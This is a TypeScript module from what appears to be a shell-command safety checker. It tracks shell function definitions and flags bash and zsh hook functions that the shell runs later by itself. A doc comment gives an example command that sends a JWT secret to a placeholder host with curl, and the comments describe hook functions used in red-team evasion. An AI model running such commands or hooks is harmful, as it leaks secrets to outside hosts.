import type { CommandList } from '../shell/ast';
import { setPositional } from '../shell/arrays';
import { recordPositionalCopies } from '../shell/expand';
import type { Exec, Scope } from './handlers/context';
import { wordCopy } from './shellValues';
import type { ArgWord } from './types';

/**
 * Shell functions the line defines. A body is walked where it is defined, with its arguments unknown;
 * each call walks it again with the call's words as `$1`…`$9` and `"$@"` (a word that is exactly a
 * variable stays a copy of it), so `f(){ curl "https://x/?$1"; }; f "$JWT_SECRET"` is judged as the
 * request it makes. A function is not walked again inside its own call (recursion); the decision's
 * budget bounds the rest.
 */
/**
 * Functions the shell calls by itself, later, by their name (red team round 7): bash's
 * `command_not_found_handle` (every command not found), zsh's `command_not_found_handler`, its hook
 * functions (`precmd`, `preexec`, `chpwd`, `periodic`, `zshexit`, `zshaddhistory`) and `TRAP<signal>`
 * handlers. Their bodies run at a time the line does not know, so a file they run that the hook cannot
 * read now may be written before then (analyze.ts `runFile`).
 */
const SHELL_HOOKS: ReadonlyArray<[RegExp, string]> = [
  [/^command_not_found_handler?$/, 'whenever a command is not found in this shell (any mistyped name)'],
  [/^(precmd|preexec|chpwd|periodic|zshexit|zshaddhistory)$/, 'at every prompt, command or folder change of this shell (a zsh hook function)'],
  [/^TRAP[A-Z]+$/, 'when this shell receives that signal or event (a zsh trap function)'],
];

/** When the shell calls a function of this name by itself, or undefined for an ordinary function. */
export function shellHookTime(name: string): string | undefined {
  return SHELL_HOOKS.find(([re]) => re.test(name))?.[1];
}

export class LineFunctions {
  private readonly bodies = new Map<string, readonly CommandList[]>();
  private readonly calling = new Set<string>();

  define(name: string, bodies: readonly CommandList[], bodyScope?: Scope): void {
    this.bodies.set(name, bodies);
    const later = shellHookTime(name);
    if (later !== undefined && bodyScope) bodyScope.laterHook = `a hook function the shell runs by itself ${later}`;
  }

  has(name: string): boolean {
    return this.bodies.has(name);
  }

  call(name: string, args: readonly ArgWord[], exec: Exec, walk: (list: CommandList, scope: Scope) => void): void {
    const bodies = this.bodies.get(name);
    if (!bodies || this.calling.has(name)) return;
    const scope: Scope = { ...exec.scope, vars: new Map(exec.scope.vars), sources: new Map(exec.scope.sources), functionName: name };
    setPositional(scope, args.map((a) => (a.dynamic || a.glob ? null : a.text)));
    recordPositionalCopies(scope, args.map(wordCopy));
    this.calling.add(name);
    try {
      for (const body of bodies) walk(body, scope);
    } finally {
      this.calling.delete(name);
    }
  }
}
